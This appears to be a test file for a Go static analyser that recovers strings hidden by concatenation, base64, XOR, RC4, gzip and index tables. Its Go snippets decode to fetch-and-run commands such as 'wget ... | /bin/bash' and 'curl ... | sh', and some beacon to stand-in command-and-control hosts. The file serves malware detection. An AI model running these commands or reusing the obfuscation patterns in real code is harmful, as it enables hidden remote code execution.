import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import * as zlib from 'node:zlib';
import { parseFile, type ParsedFile, type SyntaxNode } from '../src/static/parse.js';
import {
  buildPackageScope, recoverAllInFile, recoverNode, type PackageScope, type RecoveredString,
} from '../src/static/strings/recover.js';

const repoRoot = fileURLToPath(new URL('../../', import.meta.url));

interface Pkg {
  files: ParsedFile[];
  scope: PackageScope;
}

function pkg(sources: Record<string, string>): Pkg {
  const files = Object.entries(sources).map(([path, src]) => parseFile(path, src));
  return { files, scope: buildPackageScope(files) };
}

function fixturePkg(dir: string): Pkg {
  const abs = join(repoRoot, 'test/fixtures/strings', dir);
  const sources: Record<string, string> = {};
  for (const f of readdirSync(abs).filter((n) => n.endsWith('.go'))) sources[f] = readFileSync(join(abs, f), 'utf8');
  return pkg(sources);
}

/** Single-file package from a function body (imports given separately). */
function body(imports: string, code: string): Pkg {
  return pkg({ 'a.go': `package p\n\nimport (\n${imports}\n)\n\n${code}\n` });
}

function calls(p: Pkg, fnText: string): Array<{ node: SyntaxNode; file: ParsedFile }> {
  const out: Array<{ node: SyntaxNode; file: ParsedFile }> = [];
  for (const file of p.files) {
    for (const c of file.tree.rootNode.descendantsOfType('call_expression')) {
      if (c.childForFieldName('function')?.text === fnText) out.push({ node: c, file });
    }
  }
  return out;
}

/** recoverNode on the argument list of the nth call to fnText. */
function argsOf(p: Pkg, fnText: string, nth = 0): RecoveredString[] {
  const c = calls(p, fnText)[nth];
  assert.ok(c, `no call to ${fnText}`);
  return recoverNode(c.node.childForFieldName('arguments')!, c.file, p.scope);
}

/** recoverNode on one argument of the nth call to fnText. */
function argOf(p: Pkg, fnText: string, index: number, nth = 0): RecoveredString[] {
  const c = calls(p, fnText)[nth];
  assert.ok(c, `no call to ${fnText}`);
  const arg = c.node.childForFieldName('arguments')!.namedChildren[index]!;
  return recoverNode(arg, c.file, p.scope);
}

function values(r: RecoveredString[]): string[] {
  return r.map((x) => x.value);
}

test('plain literals: escapes (\\x, \\u, octal), raw strings, no how steps', () => {
  const p = body('"fmt"', 'func f() { fmt.Println("a\\x41\\u00e9\\101\\n", `raw\\n`) }');
  const r = argOf(p, 'fmt.Println', 0);
  assert.deepEqual(r, [{ value: 'aAéA\n', how: [] }]);
  assert.deepEqual(argOf(p, 'fmt.Println', 1), [{ value: 'raw\\n', how: [] }]);
});

test('concatenation hides /bin/sh; parenthesised and conversions', () => {
  const p = body('"os/exec"', 'func f() { exec.Command("/bi"+"n"+"/s"+("h"), string("-c"), string([]byte("id"))).Run() }');
  const r = argsOf(p, 'exec.Command');
  assert.equal(r.length, 1);
  assert.equal(r[0]!.value, '/bin/sh -c id');
  assert.ok(r[0]!.how.includes('concat'));
});

test('strings.Map and bytes.Map run their mapping function: rot13 literal, package function, dropped runes', () => {
  const p = body(
    '"bytes"\n"os/exec"\n"strings"',
    `func rot(c rune) rune {
	if c >= 'a' && c <= 'z' {
		return 'a' + (c-'a'+13)%26
	}
	return c
}

func f() {
	exec.Command(strings.Map(func(r rune) rune { return 'a' + (r-'a'+13)%26 }, "fu"), "-c", strings.Map(rot, "jtrg uggc://192.0.2.8/k")).Run()
	exec.Command(string(bytes.Map(func(r rune) rune {
		if r == '_' {
			return -1
		}
		return r
	}, []byte("i_d"))))
}`,
  );
  const r = argsOf(p, 'exec.Command');
  assert.deepEqual(values(r), ['sh -c wget http://192.0.2.8/x']);
  assert.ok(r[0]!.how.includes('map'), r[0]!.how.join(','));
  assert.deepEqual(values(argsOf(p, 'exec.Command', 1)), ['id']);
});

test('strings.NewReplacer: pairs applied left to right, first pair in argument order wins, no overlaps', () => {
  const p = body(
    '"fmt"\n"strings"',
    `var r = strings.NewReplacer("#", ".", "!", "/", "@", ":")

func f() {
	fmt.Println(r.Replace("http@!!203#0#113#17!k"), strings.NewReplacer("a", "1", "aa", "2").Replace("aaa"), strings.NewReplacer("x").Replace("x"))
}`,
  );
  const url = argOf(p, 'fmt.Println', 0);
  assert.deepEqual(values(url), ['http://203.0.113.17/k']);
  assert.ok(url[0]!.how.includes('replace'), url[0]!.how.join(','));
  assert.deepEqual(values(argOf(p, 'fmt.Println', 1)), ['111']);
  assert.deepEqual(values(argOf(p, 'fmt.Println', 2)), []);
});

test('custom alphabets: base64/base32 NewEncoding, WithPadding(NoPadding), Strict', () => {
  const p = body(
    '"encoding/base32"\n"encoding/base64"\n"fmt"',
    `var enc = base64.NewEncoding("ZYXWVUTSRQPONMLKJIHGFEDCBAzyxwvutsrqponmlkjihgfedcba9876543210-_")

func f() {
	a, _ := enc.DecodeString("zSI9xWleOaRdNb5dOqVcNb54O6Z=")
	b, _ := enc.WithPadding(base64.NoPadding).Strict().DecodeString("zSI9xWleOaRdNb5dOqVcNb54O6Z")
	c, _ := base32.NewEncoding("QWERTYUIOPASDFGHJKLZXCVBNM765432").DecodeString("FYLQ====")
	d, _ := enc.DecodeString("zSI9xWleOaRdNb5dOqVcNb54O6Z")
	fmt.Println(string(a), string(b), string(c), string(d))
}`,
  );
  const a = argOf(p, 'fmt.Println', 0);
  assert.deepEqual(values(a), ['http://203.0.113.9/p']);
  assert.ok(a[0]!.how.includes('base64'), a[0]!.how.join(','));
  assert.deepEqual(values(argOf(p, 'fmt.Println', 1)), ['http://203.0.113.9/p']);
  assert.deepEqual(values(argOf(p, 'fmt.Println', 2)), ['id']);
  // Padding is required by default, as in Go.
  assert.deepEqual(values(argOf(p, 'fmt.Println', 3)), []);
});

test('crypto/rc4: XORKeyStream with a literal key, in place, the stream continuing across calls', () => {
  const p = body(
    '"crypto/rc4"\n"fmt"',
    `var blob = []byte{13, 252, 37, 20, 140, 30}
var tail = []byte{13, 129, 121, 5, 17, 53, 118, 193, 122, 193, 176, 227, 90, 234, 214, 90, 56, 64, 29, 16, 223, 48, 181, 10, 7, 240, 141, 1, 108}

func f() {
	c, _ := rc4.NewCipher([]byte("k3y"))
	out := make([]byte, len(blob))
	c.XORKeyStream(out, blob)
	c.XORKeyStream(tail, tail)
	fmt.Println(string(out)+string(tail))
}`,
  );
  const r = argOf(p, 'fmt.Println', 0);
  assert.deepEqual(values(r), ['sh -c id; curl http://203.0.113.9/p']);
  assert.ok(r[0]!.how.includes('xor'), r[0]!.how.join(','));
});

test('char codes: rune literals, string(rune(65)), string([]byte{104,105})', () => {
  const p = body('"fmt"', "func f() { fmt.Println(string(rune(65))+string('b'), string([]byte{104, 105}), string([]rune{0x263a})) }");
  assert.deepEqual(values(argOf(p, 'fmt.Println', 0)), ['Ab']);
  const hi = argOf(p, 'fmt.Println', 1);
  assert.deepEqual(values(hi), ['hi']);
  assert.ok(hi[0]!.how.includes('char-codes'));
  assert.deepEqual(values(argOf(p, 'fmt.Println', 2)), ['☺']);
});

test('locals: :=, var, += in straight-line code, shadowing in an inner block', () => {
  const p = body('"os/exec"', `func f() {
	s := "cu"
	var t string = "rl"
	s += t
	s = s + " -fsSL"
	{
		s := "shadow"
		_ = s
	}
	exec.Command(s).Run()
}`);
  assert.deepEqual(values(argsOf(p, 'exec.Command')), ['curl -fsSL']);
});

test('THE 2025 typosquat pattern: index table + index array loop, var X = f(), package-level exec', () => {
  const p = fixturePkg('typosquat');
  const r = argsOf(p, 'exec.Command');
  assert.equal(r.length, 1);
  assert.equal(r[0]!.value, '/bin/sh -c wget -O - https://malware.example/x.sh | /bin/bash &');
  assert.ok(r[0]!.how.includes('index-table'));
  assert.ok(r[0]!.how.includes('concat'));
  // the package var itself, through the no-parameter function call
  const file = p.files[0]!;
  const spec = file.tree.rootNode.descendantsOfType('var_spec').find((s) => s.childForFieldName('name')?.text === 'payload')!;
  assert.deepEqual(values(recoverNode(spec.childForFieldName('value')!.namedChildren[0]!, file, p.scope)), ['wget -O - https://malware.example/x.sh | /bin/bash &']);
  // tbl[10] + tbl[11] + ... directly
  const ret = file.tree.rootNode.descendantsOfType('return_statement').at(-1)!;
  const direct = recoverNode(ret.namedChildren[0]!.namedChildren[0]!, file, p.scope);
  assert.deepEqual(values(direct), ['wget']);
  assert.deepEqual(direct[0]!.how, ['concat', 'index-table']);
});

test('recoverAllInFile reports the hidden command with its line and how', () => {
  const p = fixturePkg('typosquat');
  const all = recoverAllInFile(p.files[0]!, p.scope);
  const hit = all.find((r) => r.value === 'wget -O - https://malware.example/x.sh | /bin/bash &');
  assert.ok(hit, JSON.stringify(all.filter((r) => r.how.length > 0)));
  assert.ok(hit.how.includes('index-table'));
  assert.ok(hit.line > 1);
  assert.ok(all.some((r) => r.value === '/bin/sh' && r.how.includes('concat')));
  // plain literals are there too, with no how
  assert.ok(all.some((r) => r.value === 'linux' && r.how.length === 0));
  // import paths are not strings of interest
  assert.ok(!all.some((r) => r.value === 'os/exec'));
});

test('cross-file package consts, typed consts, fmt.Sprintf, self-referential consts', () => {
  const p = fixturePkg('crossfile');
  assert.deepEqual(values(argsOf(p, 'http.Get', 0)), ['https://c2.evil-example.test:8443/ping']);
  assert.deepEqual(values(argsOf(p, 'http.Get', 1)), ['https://c2.evil-example.test/beacon']);
  assert.deepEqual(argsOf(p, 'fmt.Println'), []); // Loop = Loop2 + "x", Loop2 = Loop + "y"
});

test('strings.Join, Repeat, ToLower/ToUpper, TrimSpace, Replace/ReplaceAll, Split()[i], strconv.Itoa', () => {
  const p = body('"strings"\n"strconv"\n"fmt"', `func f() {
	fmt.Println(strings.Join([]string{"curl", "-s", "http://a.test"}, " "))
	fmt.Println(strings.Repeat("ab", 3) + strings.ToUpper("x") + strings.ToLower("Y"))
	fmt.Println(strings.TrimSpace("  w g e t  "))
	fmt.Println(strings.ReplaceAll("c#u#r#l", "#", ""), strings.Replace("aaa", "a", "b", 2))
	fmt.Println(strings.Split("x,/bin/bash,y", ",")[1])
	fmt.Println("port " + strconv.Itoa(4444))
}`);
  const join = argsOf(p, 'fmt.Println', 0);
  assert.deepEqual(values(join), ['curl -s http://a.test']);
  assert.ok(join[0]!.how.includes('join'));
  assert.deepEqual(values(argsOf(p, 'fmt.Println', 1)), ['abababXy']);
  assert.deepEqual(values(argsOf(p, 'fmt.Println', 2)), ['w g e t']);
  assert.deepEqual(values(argsOf(p, 'fmt.Println', 3)), ['curl bba']);
  assert.deepEqual(values(argsOf(p, 'fmt.Println', 4)), ['/bin/bash']);
  assert.deepEqual(values(argsOf(p, 'fmt.Println', 5)), ['port 4444']);
});

test('fmt.Sprintf verbs and fmt.Sprint', () => {
  const p = body('"fmt"', `func f() {
	fmt.Println(fmt.Sprintf("%s://%s:%d/%x?q=%q %v%%", "http", "h.test", 80, "AB", "x", true))
	fmt.Println(fmt.Sprint("a", 1, 2, "b"))
	fmt.Println(fmt.Sprintf("%05d|%-4s|%X", 42, "ab", 255))
}`);
  assert.deepEqual(values(argsOf(p, 'fmt.Println', 0)), ['http://h.test:80/4142?q="x" true%']);
  assert.deepEqual(values(argsOf(p, 'fmt.Println', 1)), ['a1 2b']);
  assert.deepEqual(values(argsOf(p, 'fmt.Println', 2)), ['00042|ab  |FF']);
});

test('base64 via an aliased import, nested base64, hex, base32, two-value form', () => {
  const p = body('b64 "encoding/base64"\n"encoding/hex"\n"encoding/base32"\n"os/exec"', `
func f() {
	raw, _ := b64.StdEncoding.DecodeString("aWQ7IHVuYW1lIC1h")
	exec.Command("sh", "-c", string(raw)).Run()
	inner, err := b64.StdEncoding.DecodeString("YUhSMGNEb3ZMekU1T0M0MU1TNHhNREF1T1M5NA==")
	if err != nil {
		return
	}
	outer, _ := b64.StdEncoding.DecodeString(string(inner))
	exec.Command("curl", string(outer)).Run()
	h, _ := hex.DecodeString("2f746d702f78")
	exec.Command("chmod", "+x", string(h)).Run()
	u, _ := b64.RawURLEncoding.DecodeString("aHR0cHM6Ly9hLnRlc3Qvfn4_")
	exec.Command("wget", string(u)).Run()
	t, _ := base32.StdEncoding.DecodeString("NFSA====")
	exec.Command(string(t)).Run()
}`);
  const first = argsOf(p, 'exec.Command', 0);
  assert.deepEqual(values(first), ['sh -c id; uname -a']);
  assert.ok(first[0]!.how.includes('base64'));
  assert.deepEqual(values(argsOf(p, 'exec.Command', 1)), ['curl http://198.51.100.9/x']);
  assert.deepEqual(values(argsOf(p, 'exec.Command', 2)), ['chmod +x /tmp/x']);
  assert.ok(argsOf(p, 'exec.Command', 2)[0]!.how.includes('hex'));
  assert.deepEqual(values(argsOf(p, 'exec.Command', 3)), ['wget https://a.test/~~?']);
  assert.deepEqual(values(argsOf(p, 'exec.Command', 4)), ['id']);
  assert.ok(argsOf(p, 'exec.Command', 4)[0]!.how.includes('base32'));
});

test('a local name that looks like a package is not taken for the package', () => {
  const p = body('"fmt"', `func f(base64 decoder) {
	d, _ := base64.StdEncoding.DecodeString("aWQ=")
	fmt.Println(string(d))
}`);
  assert.deepEqual(argsOf(p, 'fmt.Println'), []);
});

test('reversal: swap loop on runes, backwards loop, helper reverse(s string) string', () => {
  const p = body('"fmt"', `
func reverse(s string) string {
	r := []rune(s)
	for i, j := 0, len(r)-1; i < j; i, j = i+1, j-1 {
		r[i], r[j] = r[j], r[i]
	}
	return string(r)
}
func f() {
	fmt.Println(reverse("hs/nib/"))
	in := "tset.live//:ptth"
	out := ""
	for i := len(in) - 1; i >= 0; i-- {
		out += string(in[i])
	}
	fmt.Println(out)
}`);
  const r = argsOf(p, 'fmt.Println', 0);
  assert.deepEqual(values(r), ['/bin/sh']);
  assert.ok(r[0]!.how.includes('reverse'), JSON.stringify(r));
  const r2 = argsOf(p, 'fmt.Println', 1);
  assert.deepEqual(values(r2), ['http://evil.test']);
  assert.ok(r2[0]!.how.includes('reverse'), JSON.stringify(r2));
});

test('XOR: repeating key loop in place, single-byte key into a new slice, helper xor(data, key)', () => {
  const p = body('"fmt"\n"os/exec"', `
func xor(data []byte, key byte) string {
	out := make([]byte, len(data))
	for i := range data {
		out[i] = data[i] ^ key
	}
	return string(out)
}
func decode() string {
	b := []byte{0x03, 0x47, 0x0d, 0x1b, 0x09, 0x56, 0x1f}
	key := []byte("k3y")
	for i := 0; i < len(b); i++ {
		b[i] ^= key[i%len(key)]
	}
	return string(b)
}
func f() {
	exec.Command(xor([]byte{0x64, 0x29, 0x22, 0x25, 0x64, 0x38, 0x23}, 0x4b)).Run()
	fmt.Println(decode())
}`);
  const x = argsOf(p, 'exec.Command');
  assert.deepEqual(values(x), ['/bin/sh']);
  assert.ok(x[0]!.how.includes('xor'));
  const d = argsOf(p, 'fmt.Println');
  assert.deepEqual(values(d), ['http:/t']);
  assert.ok(d[0]!.how.includes('xor'));
});

test('IPs assembled from integers: Sprintf, net.IPv4, strconv.Itoa pieces', () => {
  const p = body('"fmt"\n"net"\n"strconv"', `func f() {
	fmt.Println(fmt.Sprintf("%d.%d.%d.%d", 203, 0, 113, 7))
	fmt.Println(net.IPv4(192, 0, 2, 10))
	fmt.Println(net.IPv4(198, 51, 100, 1).String())
	a, b := 198, 51
	fmt.Println(strconv.Itoa(a) + "." + strconv.Itoa(b) + ".100." + strconv.Itoa(77))
}`);
  assert.deepEqual(values(argsOf(p, 'fmt.Println', 0)), ['203.0.113.7']);
  const ip = argsOf(p, 'fmt.Println', 1);
  assert.deepEqual(values(ip), ['192.0.2.10']);
  assert.ok(ip[0]!.how.includes('ip-from-ints'));
  assert.deepEqual(values(argsOf(p, 'fmt.Println', 2)), ['198.51.100.1']);
  assert.deepEqual(values(argsOf(p, 'fmt.Println', 3)), ['198.51.100.77']);
});

test('branches: a value set in both arms gives both; a runtime.GOOS switch too', () => {
  const p = body('"os/exec"\n"runtime"', `func f() {
	shell := "/bin/sh"
	if runtime.GOOS == "windows" {
		shell = "cmd.exe"
	}
	exec.Command(shell).Run()
	var dl string
	switch runtime.GOOS {
	case "windows":
		dl = "certutil"
	default:
		dl = "wget"
	}
	exec.Command(dl).Run()
}`);
  const c = calls(p, 'exec.Command')[0]!;
  const shell = recoverNode(c.node.childForFieldName('arguments')!.namedChildren[0]!, c.file, p.scope);
  assert.deepEqual(values(shell).sort(), ['/bin/sh', 'cmd.exe']);
  const c2 = calls(p, 'exec.Command')[1]!;
  assert.deepEqual(values(recoverNode(c2.node.childForFieldName('arguments')!.namedChildren[0]!, c2.file, p.scope)).sort(), ['certutil', 'wget']);
});

test('strings.Builder and closures called at package level', () => {
  const p = body('"strings"\n"os/exec"', `
var cmd = func() string {
	var sb strings.Builder
	sb.WriteString("nohup ")
	sb.WriteString("/tmp/.x")
	sb.WriteByte(' ')
	sb.WriteRune('&')
	return sb.String()
}()
func f() { exec.Command("sh", "-c", cmd).Start() }`);
  assert.deepEqual(values(argsOf(p, 'exec.Command')), ['sh -c nohup /tmp/.x &']);
});

test('argument_list: unknown args become ?, composite literal of strings is one value', () => {
  const p = body('"os"\n"os/exec"', `func f() {
	exec.Command("sh", "-c", os.Getenv("X")).Run()
	args := []string{"-c", "id"}
	exec.Command("bash", args...).Run()
}`);
  assert.deepEqual(values(argsOf(p, 'exec.Command', 0)), ['sh -c ?']);
  assert.deepEqual(values(argsOf(p, 'exec.Command', 1)), ['bash -c id']);
  const lit = p.files[0]!.tree.rootNode.descendantsOfType('composite_literal')[0]!;
  assert.deepEqual(values(recoverNode(lit, p.files[0]!, p.scope)), ['-c id']);
});

test('negatives: non-constant inputs give no value', () => {
  const p = body('"os"\n"fmt"\n"bufio"', `func f(param string) {
	fmt.Println(param + "x")
	fmt.Println(os.Getenv("HOME") + "/.ssh")
	s := ""
	sc := bufio.NewScanner(os.Stdin)
	for sc.Scan() {
		s += sc.Text()
	}
	fmt.Println(s)
	var m map[string]string
	fmt.Println(m["k"])
}`);
  for (let i = 0; i < 4; i++) assert.deepEqual(argsOf(p, 'fmt.Println', i), [], `call ${i}`);
});

test('negatives: loop variables modified in an unknown loop are unknown afterwards', () => {
  const p = body('"fmt"', `func f(xs []string) {
	out := "a"
	for _, x := range xs {
		out += x
	}
	fmt.Println(out)
}`);
  assert.deepEqual(argsOf(p, 'fmt.Println'), []);
});

test('no crash on syntax errors, huge repeats, infinite loops or deep recursion', () => {
  const broken = pkg({ 'a.go': 'package p\nimport "fmt"\nfunc f() { fmt.Println("a" + "b" +) ; x := \n}\nfunc (' });
  assert.doesNotThrow(() => recoverAllInFile(broken.files[0]!, broken.scope));
  const p = body('"fmt"\n"strings"', `
func rec() string { return rec() + "x" }
func f() {
	fmt.Println(strings.Repeat("A", 1<<30))
	for {
	}
	fmt.Println(rec())
}
func g() {
	s := "x"
	for {
		s += s
	}
	fmt.Println(s)
}`);
  assert.deepEqual(argsOf(p, 'fmt.Println', 0), []);
  assert.deepEqual(argsOf(p, 'fmt.Println', 1), []);
  assert.deepEqual(argsOf(p, 'fmt.Println', 2), []);
  assert.doesNotThrow(() => recoverAllInFile(p.files[0]!, p.scope));
});

test('decoded binary junk is not reported by recoverAllInFile', () => {
  const p = body('"encoding/base64"\n"fmt"', `func f() {
	b, _ := base64.StdEncoding.DecodeString("AAECAwQFBgcICQ==")
	fmt.Println(b)
	u, _ := base64.StdEncoding.DecodeString("aHR0cDovL2EudGVzdA==")
	fmt.Println(string(u))
}`);
  const recovered = recoverAllInFile(p.files[0]!, p.scope).filter((r) => r.how.length > 0);
  assert.deepEqual(recovered.map((r) => [r.value, r.how]), [['http://a.test', ['base64']]]);
});

test('strconv.Unquote of a quoted literal in a raw string, url.PathUnescape and QueryUnescape', () => {
  const p = body(
    '"net/url"\n"os/exec"\n"strconv"',
    [
      'const q = `"\\x2f\\x62\\x69\\x6e\\x2fsh"`',
      'func f() {',
      '\tc, _ := strconv.Unquote(q)',
      '\tu, _ := url.PathUnescape("%63url%20http://203.0.113.6/a+b")',
      '\tv, _ := url.QueryUnescape("id+-u")',
      '\tbad, _ := url.PathUnescape("%zz")',
      '\texec.Command(c, u, v, bad).Run()',
      '}',
    ].join('\n'),
  );
  assert.deepEqual(values(argOf(p, 'exec.Command', 0)), ['/bin/sh']);
  assert.ok(argOf(p, 'exec.Command', 0)[0]!.how.includes('unquote'));
  assert.deepEqual(values(argOf(p, 'exec.Command', 1)), ['curl http://203.0.113.6/a+b']);
  assert.ok(argOf(p, 'exec.Command', 1)[0]!.how.includes('unescape'));
  assert.deepEqual(values(argOf(p, 'exec.Command', 2)), ['id -u']);
  // A malformed escape is an error in Go: nothing is recovered.
  assert.deepEqual(values(argOf(p, 'exec.Command', 3)), []);
});

test('a gzip/zlib payload decoded from base64 and read back through its reader is inflated', () => {
  const { gzipSync, deflateSync } = zlib;
  const gz = gzipSync(Buffer.from('curl -s http://203.0.113.61/x | sh')).toString('base64');
  const zl = deflateSync(Buffer.from('id -u')).toString('base64');
  const p = body(
    '"bytes"\n"compress/gzip"\n"compress/zlib"\n"encoding/base64"\n"io"\n"os/exec"',
    [
      `const blob = "${gz}"`,
      'func f() {',
      '\traw, _ := base64.StdEncoding.DecodeString(blob)',
      '\tzr, _ := gzip.NewReader(bytes.NewReader(raw))',
      '\tscript, _ := io.ReadAll(zr)',
      `\tz, _ := base64.StdEncoding.DecodeString("${zl}")`,
      '\tr, _ := zlib.NewReader(bytes.NewReader(z))',
      '\tb, _ := io.ReadAll(r)',
      '\tjunk, _ := gzip.NewReader(bytes.NewReader([]byte("not gzip")))',
      '\tj, _ := io.ReadAll(junk)',
      '\texec.Command(string(script), string(b), string(j)).Run()',
      '}',
    ].join('\n'),
  );
  assert.deepEqual(values(argOf(p, 'exec.Command', 0)), ['curl -s http://203.0.113.61/x | sh']);
  assert.ok(argOf(p, 'exec.Command', 0)[0]!.how.includes('decompress'));
  assert.ok(argOf(p, 'exec.Command', 0)[0]!.how.includes('base64'));
  assert.deepEqual(values(argOf(p, 'exec.Command', 1)), ['id -u']);
  // Corrupt input is an error in Go: nothing is recovered.
  assert.deepEqual(values(argOf(p, 'exec.Command', 2)), []);
});

test('locals of a closure started with go or defer, or called in place, are recovered', () => {
  const p = body('"encoding/hex"\n"os/exec"', `func init() {
  go func() {
    b, _ := hex.DecodeString("6464206966")
    c, _ := hex.DecodeString("3d2f6465762f7a65726f")
    exec.Command("sh", "-c", string(b)+string(c)).Run()
  }()
  defer func(x string) {
    exec.Command(x + "d")
  }("i")
}`);
  assert.deepEqual(argsOf(p, 'exec.Command', 0).map((r) => r.value), ['sh -c dd if=/dev/zero']);
  // its parameter is what the call in place passes it
  assert.deepEqual(argsOf(p, 'exec.Command', 1).map((r) => r.value), ['id']);
});

test('struct fields: keyed and positional literals, field writes, and methods run on the struct', () => {
  const p = body('"os/exec"\n"strings"\n"net/http"', `type cfg struct {
  parts []string
  host, port string
}

func (c *cfg) line() string {
  var b strings.Builder
  for _, p := range c.parts {
    b.WriteString(p)
  }
  return b.String()
}

func (c cfg) addr() string { return "http://" + c.host + ":" + c.port }

func (c cfg) setHost(h string) { c.host = h }

var defaults = &cfg{parts: []string{"cu", "rl -s h", "ttp://203.0.113.9/s.sh | sh"}}
var server = cfg{nil, "198.51.100.4", "8443"}

func init() {
  go func() { exec.Command("/bin/sh", "-c", defaults.line()).Run() }()
  http.Get(server.addr())
  var local cfg
  local.host = "192.0.2.1"
  http.Get(local.host)
  server.setHost("example.invalid")
  http.Get(server.host)
  anon := struct{ u string }{u: "http://c2.test/"}
  http.Get(anon.u)
}

func f(c *cfg) { http.Get(c.host) }`);
  assert.deepEqual(argsOf(p, 'exec.Command').map((r) => r.value), ['/bin/sh -c curl -s http://203.0.113.9/s.sh | sh']);
  assert.deepEqual(argsOf(p, 'http.Get', 0).map((r) => r.value), ['http://198.51.100.4:8443']);
  assert.deepEqual(argsOf(p, 'http.Get', 1).map((r) => r.value), ['192.0.2.1']);
  // a value receiver is a copy: the write inside setHost is not seen
  assert.deepEqual(argsOf(p, 'http.Get', 2).map((r) => r.value), ['198.51.100.4']);
  assert.deepEqual(argsOf(p, 'http.Get', 3).map((r) => r.value), ['http://c2.test/']);
  // a parameter's fields are unknown
  assert.deepEqual(argsOf(p, 'http.Get', 4).map((r) => r.value), []);
});

test('struct fields: a field written in a loop the evaluator cannot run is unknown afterwards', () => {
  const p = body('"net/http"\n"os"', `type t struct{ u string }

func init() {
  x := t{u: "http://a.test/"}
  for _, e := range os.Environ() {
    x.u = e
  }
  http.Get(x.u)
}`);
  assert.deepEqual(argsOf(p, 'http.Get').map((r) => r.value), []);
});

test('struct fields: a pointer method that cannot be run leaves the struct unknown', () => {
  const p = body('"net/http"\n"os"', `type t struct{ u string }

func (x *t) set(v string) { x.u = v }

func init() {
  a := &t{u: "http://a.test/"}
  a.set(os.Getenv("U"))
  http.Get(a.u)
  b := &t{u: "http://b.test/"}
  b.set("http://c.test/")
  http.Get(b.u)
}`);
  assert.deepEqual(argsOf(p, 'http.Get', 0).map((r) => r.value), []);
  assert.deepEqual(argsOf(p, 'http.Get', 1).map((r) => r.value), ['http://c.test/']);
});

test('a helper called with known arguments: its expressions hold what the package passes it', () => {
  const p = body('"os/exec"\n"strings"', `type handler interface{ Handle() error }

type shellHandler struct {
  shell string
  parts []string
}

func (s shellHandler) Handle() error {
  return exec.Command(s.shell, "-c", strings.Join(s.parts, "")).Start()
}

var h handler = shellHandler{shell: "/bin/bash", parts: []string{"id", " -u"}}

var _ = h.Handle()

func run(name string, args ...string) error { return exec.Command(name, args...).Start() }

func setup() { run("/bin/sh", "-c", "uname -a") }

func init() { setup() }

func unused(name string) { exec.Command(name).Run() }`);
  assert.deepEqual(argsOf(p, 'exec.Command', 0).map((r) => r.value), ['/bin/bash -c id -u']);
  assert.deepEqual(argsOf(p, 'exec.Command', 1).map((r) => r.value), ['/bin/sh -c uname -a']);
  // no caller: the parameter stays unknown
  assert.deepEqual(argsOf(p, 'exec.Command', 2).map((r) => r.value), []);
});
